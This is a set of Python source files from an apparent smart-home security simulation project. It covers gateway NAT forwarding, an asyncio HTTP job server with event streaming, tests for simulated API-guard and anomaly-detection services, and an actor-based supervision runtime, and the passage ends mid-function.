            self._forward_lan(packet)
            return
        if self._blocked(packet, "outbound"):
            self.blocked_packets.append(packet)
            if _telemetry.ENABLED:
                _telemetry.registry().counter(
                    "gw.blocked", direction="outbound").inc()
            return
        if self._wan_interface is None:
            return
        key = (packet.src, packet.sport, packet.dst, packet.dport, packet.protocol)
        if key not in self._nat_out:
            self._nat_out[key] = self._next_nat_port
            self._nat_in[self._next_nat_port] = key
            self._next_nat_port += 1
        ext_port = self._nat_out[key]
        translated = packet.clone(src=self.public_address, sport=ext_port)
        self.nat_translations += 1
        if self.local_mode:
            self._local_mode_wan_packets += 1
        if _telemetry.ENABLED:
            registry = _telemetry.registry()
            registry.counter("gw.nat_translations").inc()
            registry.counter("gw.forwarded", direction="outbound").inc()
        self._emit(translated, "outbound", self._wan_interface)

    def _inbound(self, packet: Packet) -> None:
        mapping = self._nat_in.get(packet.dport)
        if mapping is None:
            # Unsolicited inbound: subject to firewall, else drop (no
            # port-forwarding by default — the paper's "port protection").
            self.blocked_packets.append(packet)
            if _telemetry.ENABLED:
                _telemetry.registry().counter(
                    "gw.blocked", direction="inbound").inc()
            return
        lan_addr, lan_port, _remote, _rport, _proto = mapping
        if self._blocked(packet, "inbound"):
            self.blocked_packets.append(packet)
            if _telemetry.ENABLED:
                _telemetry.registry().counter(
                    "gw.blocked", direction="inbound").inc()
            return
        translated = packet.clone(dst=lan_addr, dport=lan_port)
        if _telemetry.ENABLED:
            _telemetry.registry().counter(
                "gw.forwarded", direction="inbound").inc()
        self._emit(translated, "inbound", None)

    def _forward_lan(self, packet: Packet) -> None:
        for interface in self._lan_interfaces:
            if packet.dst in interface.link._interfaces:
                if _telemetry.ENABLED:
                    _telemetry.registry().counter(
                        "gw.forwarded", direction="lan").inc()
                self.sim.call_in(0.0, lambda i=interface, p=packet: i.send(p))
                return
        # Unknown LAN destination: drop.

    def _emit(self, packet: Packet, direction: str,
              interface: Optional[Interface]) -> None:
        """Run the middleware chain, then transmit resulting packets."""
        chain = (
            self.egress_middleware if direction == "outbound"
            else self.ingress_middleware
        )
        emissions: List[Tuple[float, Packet]] = [(0.0, packet)]
        for middleware in chain:
            next_emissions: List[Tuple[float, Packet]] = []
            for delay, pkt in emissions:
                for extra_delay, out in middleware(pkt, direction):
                    next_emissions.append((delay + extra_delay, out))
            emissions = next_emissions
        for delay, pkt in emissions:
            target = interface if interface is not None else self.interface_for(pkt.dst)
            if target is None:
                continue
            if delay > 0:
                self.sim.call_in(delay, lambda t=target, p=pkt: t.send(p))
            else:
                target.send(pkt)
