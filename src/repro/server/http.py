"""Hand-rolled asyncio HTTP/1.1 front end for the fleet service.

No frameworks, no new dependencies: ``asyncio.start_server`` plus a
minimal request parser.  The route table mirrors the in-sim
:class:`repro.service.api.RestApi` philosophy (explicit routes, typed
errors, a request log via metrics) but speaks real sockets:

========  =======================  ===========================================
method    path                     behaviour
========  =======================  ===========================================
POST      /jobs                    submit a spec (or ``{"spec": ..., ...}``
                                   envelope) -> 202 + job summary
GET       /jobs                    list job summaries
GET       /jobs/<id>               one job's summary
GET       /jobs/<id>/result        stored result payload (409 until done)
DELETE    /jobs/<id>               cancel (cooperative when running)
GET       /jobs/<id>/events        live Server-Sent Events stream
GET       /metrics                 live Prometheus text exposition
GET       /healthz                 liveness + drain state
========  =======================  ===========================================

SSE streams replay the job's full event log from ``Last-Event-ID`` (or
the beginning), then follow it live, emitting ``: keep-alive`` comments
during quiet spells, and close after the job's terminal event.
"""

from __future__ import annotations

import asyncio
import json
import time
from typing import Any, Dict, Optional

from repro.scenarios.spec import SpecError
from repro.server.jobs import TERMINAL_EVENTS
from repro.server.service import FleetService, ServiceDraining, UnknownJob

MAX_REQUEST_LINE = 8192
MAX_HEADER_BYTES = 65536
MAX_BODY_BYTES = 50 * 1024 * 1024

# The job-envelope keys POST /jobs accepts alongside a raw spec.
ENVELOPE_KEYS = {"spec", "priority", "workers", "timeout_s", "journal"}


class HttpError(Exception):
    """Terminates a request with a status + JSON error body."""

    def __init__(self, status: int, message: str):
        super().__init__(message)
        self.status = status
        self.message = message


_REASONS = {
    200: "OK", 202: "Accepted", 204: "No Content",
    400: "Bad Request", 404: "Not Found", 405: "Method Not Allowed",
    409: "Conflict", 413: "Payload Too Large", 500: "Internal Server Error",
    503: "Service Unavailable",
}


class Request:
    __slots__ = ("method", "path", "headers", "body")

    def __init__(self, method: str, path: str,
                 headers: Dict[str, str], body: bytes):
        self.method = method
        self.path = path
        self.headers = headers
        self.body = body

    def json(self) -> Any:
        try:
            return json.loads(self.body.decode("utf-8"))
        except (UnicodeDecodeError, json.JSONDecodeError) as exc:
            raise HttpError(400, f"request body is not valid JSON: {exc}")


async def read_request(reader: asyncio.StreamReader) -> Optional[Request]:
    """Parse one request off the stream; ``None`` on a clean EOF."""
    try:
        line = await reader.readuntil(b"\r\n")
    except asyncio.IncompleteReadError as exc:
        if not exc.partial:
            return None
        raise HttpError(400, "truncated request line")
    except asyncio.LimitOverrunError:
        raise HttpError(400, "request line too long")
    if len(line) > MAX_REQUEST_LINE:
        raise HttpError(400, "request line too long")
    parts = line.decode("latin-1").strip().split()
    if len(parts) != 3 or not parts[2].startswith("HTTP/1."):
        raise HttpError(400, "malformed request line")
    method, target, _version = parts
    path = target.split("?", 1)[0]

    headers: Dict[str, str] = {}
    total = 0
    while True:
        try:
            line = await reader.readuntil(b"\r\n")
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            raise HttpError(400, "truncated headers")
        if line in (b"\r\n", b"\n"):
            break
        total += len(line)
        if total > MAX_HEADER_BYTES:
            raise HttpError(400, "headers too large")
        name, _, value = line.decode("latin-1").partition(":")
        headers[name.strip().lower()] = value.strip()

    body = b""
    if "content-length" in headers:
        try:
            length = int(headers["content-length"])
        except ValueError:
            raise HttpError(400, "bad Content-Length")
        if length < 0 or length > MAX_BODY_BYTES:
            raise HttpError(413, "request body too large")
        body = await reader.readexactly(length)
    return Request(method.upper(), path, headers, body)


def _response_bytes(status: int, body: bytes, content_type: str,
                    keep_alive: bool) -> bytes:
    reason = _REASONS.get(status, "Unknown")
    connection = "keep-alive" if keep_alive else "close"
    head = (f"HTTP/1.1 {status} {reason}\r\n"
            f"Content-Type: {content_type}\r\n"
            f"Content-Length: {len(body)}\r\n"
            f"Connection: {connection}\r\n\r\n")
    return head.encode("latin-1") + body


def json_response(status: int, payload: Any, keep_alive: bool) -> bytes:
    body = (json.dumps(payload, indent=1, sort_keys=True) + "\n").encode()
    return _response_bytes(status, body, "application/json", keep_alive)


class HttpServer:
    """The socket front end; all request handling runs on the loop."""

    def __init__(self, service: FleetService, host: str = "127.0.0.1",
                 port: int = 0, sse_keepalive_s: float = 10.0):
        self.service = service
        self.host = host
        self.port = port
        self.sse_keepalive_s = sse_keepalive_s
        self._server: Optional[asyncio.AbstractServer] = None

    async def start(self) -> None:
        self._server = await asyncio.start_server(
            self._handle_client, self.host, self.port)
        self.port = self._server.sockets[0].getsockname()[1]

    async def close(self) -> None:
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()

    # -- connection loop ---------------------------------------------------
    async def _handle_client(self, reader: asyncio.StreamReader,
                             writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                try:
                    request = await read_request(reader)
                except HttpError as exc:
                    writer.write(json_response(
                        exc.status, {"error": exc.message}, False))
                    break
                if request is None:
                    break
                keep_alive = (request.headers.get("connection", "")
                              .lower() != "close")
                try:
                    handled = await self._dispatch(request, writer,
                                                   keep_alive)
                except HttpError as exc:
                    writer.write(json_response(
                        exc.status, {"error": exc.message}, keep_alive))
                    handled = True
                except Exception as exc:  # noqa: BLE001 - request boundary
                    writer.write(json_response(
                        500, {"error": f"{type(exc).__name__}: {exc}"},
                        False))
                    break
                if not handled or not keep_alive:
                    break
                await writer.drain()
        except (ConnectionError, asyncio.IncompleteReadError):
            pass
        finally:
            try:
                await writer.drain()
                writer.close()
                await writer.wait_closed()
            except (ConnectionError, RuntimeError):
                pass

    # -- routing -----------------------------------------------------------
    async def _dispatch(self, request: Request,
                        writer: asyncio.StreamWriter,
                        keep_alive: bool) -> bool:
        """Handle one request.  Returns False when the handler streamed
        its own response and the connection must close (SSE)."""
        method, path = request.method, request.path
        segments = [s for s in path.split("/") if s]

        if path == "/healthz" and method == "GET":
            self._reply(writer, 200, {
                "status": "draining" if self.service.draining else "ok",
                "uptime_s": round(time.time() - self.service.started_at, 3),
                "jobs": len(self.service.jobs),
                "queue_depth": self.service.queue.depth(),
            }, keep_alive)
            return True
        if path == "/metrics" and method == "GET":
            body = self.service.metrics_text().encode("utf-8")
            writer.write(_response_bytes(
                200, body, "text/plain; version=0.0.4", keep_alive))
            return True
        if path == "/jobs" and method == "POST":
            self._submit(request, writer, keep_alive)
            return True
        if path == "/jobs" and method == "GET":
            self._reply(writer, 200,
                        {"jobs": self.service.job_summaries()}, keep_alive)
            return True
        if segments[:1] == ["jobs"] and len(segments) == 2:
            job = self._job(segments[1])
            if method == "GET":
                self._reply(writer, 200, job.summary(), keep_alive)
                return True
            if method == "DELETE":
                job = self.service.cancel(job.id)
                self._reply(writer, 200, job.summary(), keep_alive)
                return True
            raise HttpError(405, f"method {method} not allowed here")
        if (segments[:1] == ["jobs"] and len(segments) == 3
                and segments[2] == "result" and method == "GET"):
            return self._result(segments[1], writer, keep_alive)
        if (segments[:1] == ["jobs"] and len(segments) == 3
                and segments[2] == "events" and method == "GET"):
            await self._stream_events(segments[1], request, writer)
            return False
        raise HttpError(404, f"no route for {method} {path}")

    def _reply(self, writer: asyncio.StreamWriter, status: int,
               payload: Any, keep_alive: bool) -> None:
        writer.write(json_response(status, payload, keep_alive))

    def _job(self, job_id: str):
        try:
            return self.service.get_job(job_id)
        except UnknownJob:
            raise HttpError(404, f"unknown job {job_id!r}")

    # -- handlers ----------------------------------------------------------
    def _submit(self, request: Request, writer: asyncio.StreamWriter,
                keep_alive: bool) -> None:
        data = request.json()
        if not isinstance(data, dict):
            raise HttpError(400, "request body must be a JSON object")
        options: Dict[str, Any] = {}
        if "spec" in data:
            unknown = set(data) - ENVELOPE_KEYS
            if unknown:
                raise HttpError(
                    400, f"unknown job keys {sorted(unknown)}; "
                         f"valid: {sorted(ENVELOPE_KEYS)}")
            spec_data = data["spec"]
            if not isinstance(spec_data, dict):
                raise HttpError(400, "'spec' must be a JSON object")
            try:
                options["priority"] = int(data.get("priority", 0))
                workers = data.get("workers", 1)
                options["workers"] = (int(workers)
                                      if workers is not None else 1)
                timeout_s = data.get("timeout_s")
                options["timeout_s"] = (float(timeout_s)
                                        if timeout_s is not None else None)
            except (TypeError, ValueError) as exc:
                raise HttpError(400, f"bad job envelope value: {exc}")
            journal = data.get("journal")
            if journal is not None and not isinstance(journal, str):
                raise HttpError(400, "'journal' must be a string path")
            options["journal"] = journal
        else:
            spec_data = data  # a bare ScenarioSpec: curl-friendly
        try:
            job = self.service.submit(spec_data, **options)
        except ServiceDraining as exc:
            raise HttpError(503, str(exc))
        except SpecError as exc:
            raise HttpError(400, f"invalid spec: {exc}")
        self._reply(writer, 202, job.summary(), keep_alive)

    def _result(self, job_id: str, writer: asyncio.StreamWriter,
                keep_alive: bool) -> bool:
        job = self._job(job_id)
        if not job.terminal:
            raise HttpError(
                409, f"job {job_id} is {job.state.value}; result not ready")
        payload = self.service.store.get(job_id)
        if payload is None:
            if job.state.value == "done":  # evicted without a spill file
                raise HttpError(404, f"result for {job_id} no longer stored")
            raise HttpError(
                409, f"job {job_id} finished {job.state.value}; no result")
        self._reply(writer, 200, payload, keep_alive)
        return True

    async def _stream_events(self, job_id: str, request: Request,
                             writer: asyncio.StreamWriter) -> None:
        job = self._job(job_id)
        start = 0
        last_id = request.headers.get("last-event-id")
        if last_id is not None:
            try:
                start = int(last_id) + 1
            except ValueError:
                raise HttpError(400, "bad Last-Event-ID")
        writer.write(b"HTTP/1.1 200 OK\r\n"
                     b"Content-Type: text/event-stream\r\n"
                     b"Cache-Control: no-store\r\n"
                     b"Connection: close\r\n\r\n")
        await writer.drain()
        cursor = start
        while True:
            events = await job.events.wait_beyond(
                cursor, timeout=self.sse_keepalive_s)
            if not events:
                writer.write(b": keep-alive\r\n\r\n")
                await writer.drain()
                continue
            finished = False
            for entry in events:
                payload = json.dumps(entry["data"], sort_keys=True)
                writer.write(
                    f"id: {entry['id']}\r\n"
                    f"event: {entry['event']}\r\n"
                    f"data: {payload}\r\n\r\n".encode("utf-8"))
                cursor = entry["id"] + 1
                if entry["event"] in TERMINAL_EVENTS:
                    finished = True
            await writer.drain()
            if finished:
                return
