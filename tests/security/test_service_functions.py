"""Tests for service-layer functions: API guard, app verifier, analytics."""

import pytest

from repro.core.signals import SignalType
from repro.network.protocols.http import HttpRequest
from repro.security.service.analytics import SecurityAnalytics
from repro.security.service.api_guard import ApiGuard
from repro.security.service.appverify import ApplicationVerifier
from repro.service.api import RestApi
from repro.service.capabilities import Capability
from repro.service.oauth import OAuthServer, Scope
from repro.service.smartapps import SmartApp, TriggerActionRule
from repro.sim import Simulator


class TestApiGuard:
    def setup_method(self):
        self.sim = Simulator()
        self.oauth = OAuthServer(self.sim)
        api = RestApi(self.oauth)
        api.add_route("GET", "/data", Scope.READ_DEVICES, lambda r, t: "ok")
        api.add_route("GET", "/open", None, lambda r, t: "ok")
        self.signals = []
        self.guard = ApiGuard(self.sim, api, report=self.signals.append)

    def _get(self, path, token=None, client="c1"):
        headers = {"X-Client": client}
        if token:
            headers["Authorization"] = f"Bearer {token.value}"
        return self.guard.handle(HttpRequest("GET", path, headers))

    def test_normal_traffic_passes(self):
        token = self.oauth.issue("alice", {Scope.READ_DEVICES})
        assert self._get("/data", token).status == 200
        assert not self.signals

    def test_rate_limit(self):
        def burst():
            for _ in range(40):
                self._get("/open")
                yield self.sim.timeout(0.1)

        self.sim.process(burst())
        self.sim.run()
        assert self.guard.rate_limited > 0
        assert any(s.detail_dict["reason"] == "rate-limit"
                   for s in self.signals)

    def test_denial_streak_raises_abuse(self):
        def probe():
            for _ in range(ApiGuard.DENIAL_STREAK):
                self._get("/data")  # 401 each time
                yield self.sim.timeout(3.0)

        self.sim.process(probe())
        self.sim.run()
        assert any(s.signal_type == SignalType.API_ABUSE
                   for s in self.signals)

    def test_success_resets_streak(self):
        def alternating():
            # Same anonymous subject throughout: 4 denials, one success
            # (public route), then one more denial — streak never reaches 5.
            for _ in range(ApiGuard.DENIAL_STREAK - 1):
                self._get("/data")
                yield self.sim.timeout(3.0)
            self._get("/open")
            yield self.sim.timeout(3.0)
            self._get("/data")
            yield self.sim.timeout(3.0)

        self.sim.process(alternating())
        self.sim.run()
        assert not any(s.detail_dict.get("reason", "").startswith("denial")
                       for s in self.signals)


class TestApplicationVerifier:
    def setup_method(self):
        self.sim = Simulator()
        self.signals = []
        self.verifier = ApplicationVerifier(self.sim,
                                            report=self.signals.append)
        self.app = SmartApp(
            "motion-light", {Capability.SWITCH},
            rules=[TriggerActionRule(
                "r1", "camera-001", "motion", lambda v: v >= 1.0,
                "bulb-001", "on")],
        )
        self.verifier.learn_rules([self.app])

    def test_explained_command_accepted(self):
        self.verifier.note_event("camera-001", "motion", 1.0)
        self.verifier.note_command("bulb-001", "on")
        assert not self.verifier.unexplained

    def test_command_without_trigger_flagged(self):
        self.verifier.note_command("bulb-001", "on")
        assert self.verifier.unexplained
        assert self.signals[0].signal_type == SignalType.APP_VIOLATION

    def test_command_for_unruled_device_flagged(self):
        self.verifier.note_event("camera-001", "motion", 1.0)
        self.verifier.note_command("lock-001", "unlock")
        assert self.verifier.unexplained

    def test_predicate_must_hold(self):
        self.verifier.note_event("camera-001", "motion", 0.0)  # no motion
        self.verifier.note_command("bulb-001", "on")
        assert self.verifier.unexplained

    def test_stale_trigger_outside_window(self):
        self.verifier.note_event("camera-001", "motion", 1.0)
        self.sim.timeout(ApplicationVerifier.EXPLANATION_WINDOW_S + 10)
        self.sim.run()
        self.verifier.note_command("bulb-001", "on")
        assert self.verifier.unexplained

    def test_crashing_predicate_does_not_explain(self):
        app = SmartApp("bad", set(), rules=[TriggerActionRule(
            "r", "d1", "a", lambda v: v / 0 > 1, "d2", "on")])
        verifier = ApplicationVerifier(self.sim)
        verifier.learn_rules([app])
        verifier.note_event("d1", "a", 1.0)
        verifier.note_command("d2", "on")
        assert verifier.unexplained


class TestAnalytics:
    def setup_method(self):
        self.sim = Simulator()
        self.signals = []
        self.analytics = SecurityAnalytics(self.sim,
                                           report=self.signals.append)

    def feed_baseline(self, device="t-1", attribute="temperature",
                      value=70.0, n=20):
        rng = self.sim.rng.stream("test-noise")
        for _ in range(n):
            self.analytics.ingest_telemetry(
                device, {attribute: value + rng.gauss(0, 0.5)})

    def test_outlier_detection(self):
        self.feed_baseline()
        raised = self.analytics.ingest_telemetry("t-1", {"temperature": 120.0})
        assert any(r.startswith("sensor-outlier") for r in raised)
        assert any(s.signal_type == SignalType.TELEMETRY_ANOMALY
                   for s in self.signals)

    def test_no_false_positive_on_baseline(self):
        self.feed_baseline()
        raised = self.analytics.ingest_telemetry("t-1", {"temperature": 70.4})
        assert not raised

    def test_needs_baseline_before_flagging(self):
        raised = self.analytics.ingest_telemetry("t-1", {"temperature": 500.0})
        assert not raised  # first sample can't be an outlier

    def test_keepalive_spike(self):
        def traffic():
            # Learn a slow baseline (1 msg / 20 s).
            for _ in range(10):
                self.analytics.ingest_telemetry("cam-1", {"light": 300.0})
                yield self.sim.timeout(20.0)
            # Then a burst.
            for _ in range(30):
                self.analytics.ingest_telemetry("cam-1", {"light": 300.0})
                yield self.sim.timeout(0.5)

        self.sim.process(traffic())
        self.sim.run()
        assert any(kind == "keepalive-spike"
                   for _, _, kind in self.analytics.anomalies)

    def test_context_divergence(self):
        self.analytics.add_context_provider("weather", lambda: 55.0)
        ok = self.analytics.check_context("t-1", "temperature", 60.0,
                                          "weather", 20.0)
        assert ok
        bad = self.analytics.check_context("t-1", "temperature", 95.0,
                                           "weather", 20.0)
        assert not bad
        assert any(s.signal_type == SignalType.POLICY_CONTEXT
                   for s in self.signals)

    def test_watch_context_auto_checks(self):
        self.analytics.add_context_provider("weather", lambda: 55.0)
        self.analytics.watch_context("temperature", "weather", 20.0)
        raised = self.analytics.ingest_telemetry("t-1", {"temperature": 95.0})
        assert "context-divergence:temperature" in raised

    def test_missing_provider_is_permissive(self):
        assert self.analytics.check_context("t", "a", 1e9, "nonexistent", 1.0)

    def test_silence_detection(self):
        def traffic():
            for _ in range(12):
                self.analytics.ingest_telemetry("t-1", {"temperature": 70.0})
                yield self.sim.timeout(10.0)

        self.sim.process(traffic())
        self.sim.run()
        assert self.analytics.audit_silence() == []  # still chatty
        self.sim.timeout(500.0)
        self.sim.run()
        assert self.analytics.audit_silence() == ["t-1"]
        assert any(kind == "device-silent"
                   for _, _, kind in self.analytics.anomalies)

    def test_silence_needs_baseline(self):
        self.analytics.ingest_telemetry("t-1", {"x": 1.0})
        self.sim.timeout(1000.0)
        self.sim.run()
        assert self.analytics.audit_silence() == []
