"""The supervision tree: Supervisor → HomeActor per home + FleetActor.

Actors communicate over an in-process :class:`RuntimeBus`; the
:class:`Supervisor` is the single bus subscriber that turns runtime
events into journal records (and assigns the global alert sequence
``repro replay --until-alert`` addresses).  A :class:`HomeActor` wraps
one home's :class:`~repro.scenarios.spec._HomeExecution` and *polls* its
new observations after every epoch as plain dicts — the actor holds no
journal handle, which is what lets the identical actor run in-parent,
inside a forked exchange shard (events ride the shard pipe home), or as
the in-parent replacement that resumes a crashed home.
"""

from __future__ import annotations

from collections import deque
from enum import Enum
from typing import Any, Callable, Dict, List, Optional, Sequence, Tuple

from repro.network.internet import CrossHomeMessage, WanExchangePort
from repro.runtime.journal import JOURNAL_VERSION, Journal, open_journal
from repro import telemetry as _telemetry
from repro.telemetry import MetricsRegistry

if False:  # typing only — the scenarios package imports this module
    from repro.scenarios.spec import (HomeRunResult, ScenarioResult,
                                      ScenarioSpec)

# One epoch's routed traffic: destination home -> ordered message list.
Inbound = Dict[int, List[CrossHomeMessage]]


def epoch_boundaries(spec: ScenarioSpec) -> List[float]:
    """Absolute sim times every home advances to, epoch by epoch.

    The last boundary is exactly ``warmup_s + duration_s`` (no float
    accumulation past the end), and the list is computed from the spec
    alone so every shard — and every crash replay — sees identical
    boundaries.
    """
    end = spec.warmup_s + spec.duration_s
    boundaries: List[float] = []
    t = spec.warmup_s
    while True:
        t += spec.epoch_s
        if t >= end - 1e-9:
            boundaries.append(end)
            return boundaries
        boundaries.append(t)


def epoch_of(timestamp: float, boundaries: Sequence[float]) -> int:
    """The epoch whose advance covers ``timestamp`` (events exactly on a
    boundary belong to the epoch ending there)."""
    lo, hi = 0, len(boundaries) - 1
    while lo < hi:
        mid = (lo + hi) // 2
        if boundaries[mid] < timestamp:
            lo = mid + 1
        else:
            hi = mid
    return lo


class ActorState(str, Enum):
    NEW = "new"
    RUNNING = "running"
    DONE = "done"


class RuntimeBus:
    """Deterministic in-process message bus.

    Single-threaded by construction: ``post`` enqueues, ``pump`` drains
    FIFO, dispatching each message to every subscriber in subscription
    order.  No timestamps, no threads — determinism is the point.
    """

    def __init__(self) -> None:
        self._queue: "deque[Tuple[str, Dict[str, Any]]]" = deque()
        self._handlers: List[Callable[[str, Dict[str, Any]], None]] = []
        self.dispatched = 0

    def subscribe(self, handler: Callable[[str, Dict[str, Any]], None]
                  ) -> None:
        self._handlers.append(handler)

    def post(self, topic: str, data: Dict[str, Any]) -> None:
        self._queue.append((topic, dict(data)))

    def pump(self) -> int:
        """Drain the queue; returns how many messages were dispatched."""
        count = 0
        while self._queue:
            topic, data = self._queue.popleft()
            for handler in list(self._handlers):
                handler(topic, data)
            count += 1
        self.dispatched += count
        return count


class HomeActor:
    """One supervised home.

    Wraps the phase-split :class:`_HomeExecution` and, when
    ``collect_events`` is on, polls the new observations each epoch
    produced — alerts, fault transitions, home-alone windows — as plain
    journal-ready dicts (pickle-safe, so forked shards pipe them to the
    supervising parent).
    """

    def __init__(self, spec: ScenarioSpec, index: int,
                 port: Optional[WanExchangePort] = None,
                 registry: Optional[MetricsRegistry] = None,
                 collect_events: bool = False):
        self.spec = spec
        self.index = index
        self.port = port
        self.registry = registry
        self.collect_events = collect_events
        self.state = ActorState.NEW
        self._execution: Optional[_HomeExecution] = None
        self._alerts_seen = 0
        self._home_alone_seen = 0
        # fault index -> whether its recovery has been reported yet.
        self._faults_seen: Dict[int, bool] = {}

    def run_once(self) -> HomeRunResult:
        """The journal-off fast path: delegate to
        :func:`~repro.scenarios.spec.run_home`, the exact pre-runtime
        code path (registry swapped around the whole run)."""
        from repro.scenarios.spec import run_home
        result = run_home(self.spec, self.index)
        self.state = ActorState.DONE
        return result

    # -- epoch-driven execution --------------------------------------------
    def start(self) -> None:
        """Build the world and arm attacks/faults (phases 1–2)."""
        from repro.scenarios.spec import _HomeExecution
        self._execution = _HomeExecution(self.spec, self.index,
                                         port=self.port,
                                         registry=self.registry)
        self._execution.arm()
        self.state = ActorState.RUNNING

    def advance_epoch(self, epoch: int, until: float,
                      inbound: Sequence[CrossHomeMessage] = (),
                      ) -> Tuple[List[CrossHomeMessage], int,
                                 List[Dict[str, Any]]]:
        """Deliver inbound WAN messages, run to the boundary, drain the
        outbox; returns (outbound, infected count, new events)."""
        execution = self._execution
        for message in inbound:
            execution.deliver(message)
        execution.advance(until)
        outbound = execution.drain(epoch)
        events = self.poll(epoch) if self.collect_events else []
        return outbound, execution.infected_count(), events

    def poll(self, epoch: int) -> List[Dict[str, Any]]:
        """Observations that appeared since the previous poll, in a
        deterministic order (alerts, then home-alone transitions, then
        fault transitions — each in occurrence order)."""
        from repro.server.store import alert_to_dict
        events: List[Dict[str, Any]] = []
        xlf = self._execution._xlf
        if xlf is not None:
            alerts = xlf.correlator.alerts
            for alert in alerts[self._alerts_seen:]:
                events.append({"t": "alert", "home": self.index,
                               "epoch": epoch,
                               "alert": alert_to_dict(alert)})
            self._alerts_seen = len(alerts)
            transitions: List[Tuple[str, float, Dict[str, Any]]] = []
            for window in xlf.home_alone_events:
                transitions.append(("enter", window.entered_at, {}))
                if window.exited_at is not None:
                    transitions.append(("exit", window.exited_at, {
                        "resynced_signals": window.resynced_signals,
                        "deferred_wan_packets": window.deferred_wan_packets,
                    }))
            for state, at, extra in transitions[self._home_alone_seen:]:
                events.append({"t": "home-alone", "home": self.index,
                               "epoch": epoch, "state": state, "at": at,
                               **extra})
            self._home_alone_seen = len(transitions)
        injector = self._execution._injector
        if injector is not None:
            for event in injector.events:
                recovery_reported = self._faults_seen.get(event.index)
                if recovery_reported is None:
                    events.append(_fault_record(
                        "injected", self.index, epoch, event,
                        event.injected_at))
                    recovery_reported = False
                if not recovery_reported and event.recovered_at is not None:
                    events.append(_fault_record(
                        "recovered", self.index, epoch, event,
                        event.recovered_at))
                    recovery_reported = True
                self._faults_seen[event.index] = recovery_reported
        return events

    def finish(self) -> HomeRunResult:
        """Featurize and assemble the result (phase 4), finalising the
        home-local telemetry snapshot when one was recorded."""
        from repro.scenarios.spec import _finalise_home_telemetry
        result, end_time = self._execution.finish()
        if self.registry is not None:
            _finalise_home_telemetry(result, self.registry, end_time)
        self.state = ActorState.DONE
        return result


def _fault_record(transition: str, home: int, epoch: int, event,
                  at: float) -> Dict[str, Any]:
    return {"t": "fault", "event": transition, "home": home, "epoch": epoch,
            "index": event.index, "fault": event.fault,
            "target": event.target, "at": at}


def derived_home_events(home: HomeRunResult, boundaries: Sequence[float]
                        ) -> List[Dict[str, Any]]:
    """Rebuild the journal events a live actor would have polled, from a
    completed :class:`HomeRunResult`.

    Homes that ran straight through (the parallel fast path's forked
    workers, and serial journaled runs with no interruption hook) return
    whole :class:`HomeRunResult`\\ s; the supervising parent derives the
    per-event records from the result.  Events are grouped per epoch in
    poll order (alerts, home-alone transitions, fault transitions) with
    the epoch record after each group, so the derived stream is
    byte-identical to what a live epoch-chunked actor would have
    journaled.  Epochs are recomputed from timestamps.
    """
    from repro.server.store import alert_to_dict
    per_epoch: List[List[Dict[str, Any]]] = [[] for _ in boundaries]
    for alert in home.alerts:
        per_epoch[epoch_of(alert.timestamp, boundaries)].append(
            {"t": "alert", "home": home.home_index,
             "epoch": epoch_of(alert.timestamp, boundaries),
             "alert": alert_to_dict(alert)})
    for window in getattr(home, "home_alone_events", ()):
        per_epoch[epoch_of(window.entered_at, boundaries)].append(
            {"t": "home-alone", "home": home.home_index,
             "epoch": epoch_of(window.entered_at, boundaries),
             "state": "enter", "at": window.entered_at})
        if window.exited_at is not None:
            per_epoch[epoch_of(window.exited_at, boundaries)].append({
                "t": "home-alone", "home": home.home_index,
                "epoch": epoch_of(window.exited_at, boundaries),
                "state": "exit", "at": window.exited_at,
                "resynced_signals": window.resynced_signals,
                "deferred_wan_packets": window.deferred_wan_packets})
    for event in home.fault_events:
        per_epoch[epoch_of(event.injected_at, boundaries)].append(
            _fault_record("injected", home.home_index,
                          epoch_of(event.injected_at, boundaries), event,
                          event.injected_at))
        if event.recovered_at is not None:
            per_epoch[epoch_of(event.recovered_at, boundaries)].append(
                _fault_record("recovered", home.home_index,
                              epoch_of(event.recovered_at, boundaries),
                              event, event.recovered_at))
    events: List[Dict[str, Any]] = []
    for epoch, (until, batch) in enumerate(zip(boundaries, per_epoch)):
        events.extend(batch)
        events.append({"t": "epoch", "epoch": epoch, "until": until,
                       "home": home.home_index})
    return events


class FleetActor:
    """The fleet-level actor: deterministic WAN routing state.

    Collects every home's drained outbox, orders the batch globally by
    ``(epoch, src_home, seq)``, stages it for delivery at the next epoch
    boundary, and keeps the inbound history that crash replays consume.
    """

    def __init__(self, n_homes: int):
        self.n_homes = n_homes
        self.pending: Inbound = {}
        # history[e][home] = messages delivered into `home` at epoch e's
        # start; epoch 0 has no inbound.  The crash-replay source of
        # truth (holds live message objects, not serialized copies).
        self.history: List[Inbound] = []
        self.routed = 0

    def take_inbound(self) -> Inbound:
        """Start an epoch: claim the staged traffic and append it to the
        replay history."""
        inbound, self.pending = self.pending, {}
        self.history.append(inbound)
        return inbound

    def route(self, outputs: Dict[int, tuple]) -> List[CrossHomeMessage]:
        """Merge per-home outboxes into the global order and stage them
        for the next epoch; returns the ordered batch."""
        messages: List[CrossHomeMessage] = []
        for index in sorted(outputs):
            messages.extend(outputs[index][0])
        messages.sort(key=CrossHomeMessage.sort_key)
        for message in messages:
            self.pending.setdefault(message.dst_home, []).append(message)
        self.routed += len(messages)
        return messages

    def dropped(self) -> int:
        """Messages staged after the final epoch (no boundary left to
        deliver them at)."""
        return sum(len(batch) for batch in self.pending.values())


def message_to_dict(message: CrossHomeMessage) -> Dict[str, Any]:
    from repro.server.store import json_safe
    return {"kind": message.kind, "src_home": message.src_home,
            "dst_home": message.dst_home, "seq": message.seq,
            "epoch": message.epoch, "payload": json_safe(message.payload)}


class Supervisor:
    """Root of the supervision tree.

    Owns the :class:`RuntimeBus` and the :class:`Journal`; every driver
    (serial, parallel, exchange) emits its lifecycle events here.  The
    supervisor's bus subscriber assigns the global 1-based alert
    sequence and writes one journal record per event.  With no journal
    configured the bus still runs (events are simply not persisted), so
    the drivers are unconditional and the journal-off path stays cheap.
    """

    def __init__(self, spec: ScenarioSpec, journal=None,
                 engine: str = "serial", workers: int = 1):
        self.spec = spec
        self.engine = engine
        self.workers = workers
        self.journal, self._owns_journal = open_journal(journal)
        self.bus = RuntimeBus()
        self.alert_seq = 0
        self.bus.subscribe(self._record)
        self._ended = False

    @property
    def journaling(self) -> bool:
        return self.journal is not None

    # -- event intake -------------------------------------------------------
    def emit(self, topic: str, **data: Any) -> None:
        self.bus.post(topic, data)
        self.bus.pump()
        if self.journal is not None:
            self.journal.flush()

    def observe(self, events: Sequence[Dict[str, Any]]) -> None:
